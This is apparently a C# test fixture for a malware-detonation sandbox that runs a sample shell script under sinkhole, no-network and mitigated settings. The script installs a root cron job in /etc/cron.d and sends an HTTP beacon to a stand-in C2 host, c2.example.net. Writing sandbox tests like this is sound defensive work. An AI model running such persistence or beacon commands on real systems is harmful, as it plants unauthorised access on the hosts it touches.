using Detektr.Detonation;
using Detektr.Network;
using Detektr.Tests.TestSupport;

namespace Detektr.Tests.Query;

/// <summary>One run store with four real runs of the same script, made once for the query and diff
/// tests: in the sinkhole (<see cref="Sinkhole"/>, and again as <see cref="SinkholeAgain"/>), with no
/// network (<see cref="NoNetwork"/>), and in the sinkhole with two mitigations applied: /etc/cron.d read-only
/// and connect() denied (<see cref="Mitigated"/>).</summary>
public sealed class DetonatedRuns : IAsyncLifetime
{
    /// <summary>Writes a report and a mktemp file, installs a cron job, resolves a name, connects to an
    /// address and makes an HTTP request to the name.</summary>
    public const string Script = """
        mkdir -p /tmp/out
        echo report > /tmp/out/report.txt
        t=$(mktemp /tmp/job.XXXXXX); echo x > "$t"
        echo '* * * * * root /tmp/out/run' > /etc/cron.d/job
        python3 -c '
        import socket
        try:
            print(socket.gethostbyname("c2.example.net"))
        except OSError as e:
            print("dns", e.errno)
        print(socket.socket().connect_ex(("198.51.100.7", 443)))
        try:
            c = socket.create_connection(("c2.example.net", 80), timeout=10)
            c.sendall(b"GET /beacon?id=7 HTTP/1.0\r\nHost: c2.example.net\r\n\r\n")
            c.recv(100)
        except OSError as e:
            print("http", e.errno)
        '
        """;

    private readonly TemporaryDirectory _directory = new();

    public string Store => Path.Combine(_directory.Path, "runs");

    public RunResult Sinkhole { get; private set; } = null!;

    public RunResult SinkholeAgain { get; private set; } = null!;

    public RunResult NoNetwork { get; private set; } = null!;

    public RunResult Mitigated { get; private set; } = null!;

    public IEnumerable<RunResult> All => [Sinkhole, SinkholeAgain, NoNetwork, Mitigated];

    public async ValueTask InitializeAsync()
    {
        using var detonator = new Detonator(new DetonatorOptions { RunsDirectory = Store });
        var request = DetonationRequest.ForCommand("/bin/sh", "-c", Script) with { Network = NetworkMode.Sinkhole };
        var runs = await Task.WhenAll(
            detonator.RunAsync(request, TestContext.Current.CancellationToken),
            detonator.RunAsync(request, TestContext.Current.CancellationToken),
            detonator.RunAsync(request with { Network = NetworkMode.None }, TestContext.Current.CancellationToken),
            detonator.RunAsync(request with { ReadOnlyPaths = ["/etc/cron.d"], DeniedSyscalls = ["connect"] }, TestContext.Current.CancellationToken));
        (Sinkhole, SinkholeAgain, NoNetwork, Mitigated) = (runs[0], runs[1], runs[2], runs[3]);
    }

    public ValueTask DisposeAsync()
    {
        _directory.Dispose();
        return ValueTask.CompletedTask;
    }
}

[CollectionDefinition(Name)]
public sealed class DetonatedRunsGroup : ICollectionFixture<DetonatedRuns>
{
    public const string Name = "Detonated runs for queries and diffs";
}
